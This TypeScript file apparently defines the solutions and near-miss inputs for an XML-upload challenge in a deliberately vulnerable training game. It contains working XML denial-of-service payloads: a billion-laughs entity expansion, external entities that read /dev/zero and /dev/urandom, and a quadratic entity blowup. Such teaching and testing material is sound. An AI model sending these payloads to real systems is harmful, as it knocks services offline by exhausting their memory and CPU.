import { defineWays } from '#game/define.ts'
import { uploadXmlOrder } from '#game/visitor/requests.ts'

/** Each expands to ten of the previous one. */
const LAUGHS = [...'bcdefghij']
  .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghij'[index]};`.repeat(10)}">`)
  .join('')

export default defineWays({
  otherWays: {
    'zeros without an end': (visitor) => uploadXmlOrder(visitor, '<!ENTITY e SYSTEM "file:///dev/zero">', '&e;'),
    'a device by its path': (visitor) => uploadXmlOrder(visitor, '<!ENTITY e SYSTEM "/dev/urandom">', '&e;'),
    'a long text, very often': (visitor) =>
      uploadXmlOrder(visitor, `<!ENTITY e "${'juice'.repeat(10_000)}">`, '&e;'.repeat(10_000)),
    'a billion laughs': (visitor) => uploadXmlOrder(visitor, `<!ENTITY a "ha">${LAUGHS}`, '&j;'),
  },
  mishaps: {
    'a long text, twice': [
      410,
      (visitor) => uploadXmlOrder(visitor, `<!ENTITY e "${'juice'.repeat(1000)}">`, '&e;&e;'),
    ],
    'a large order': [410, (visitor) => uploadXmlOrder(visitor, '', '<juice/>'.repeat(12_000))],
    'an order that is too large': [500, (visitor) => uploadXmlOrder(visitor, '', '<juice/>'.repeat(30_000))],
    'a circle': [410, (visitor) => uploadXmlOrder(visitor, '<!ENTITY a "&b;"><!ENTITY b "&a;">', '&a;')],
    'a file that ends': [410, (visitor) => uploadXmlOrder(visitor, '<!ENTITY e SYSTEM "file:///dev/null">', '&e;')],
    'a device that nothing refers to': [
      410,
      (visitor) => uploadXmlOrder(visitor, '<!ENTITY e SYSTEM "file:///dev/random">', '12'),
    ],
  },
  companions: ['deprecatedInterfaceChallenge', 'uploadSizeChallenge'],
})
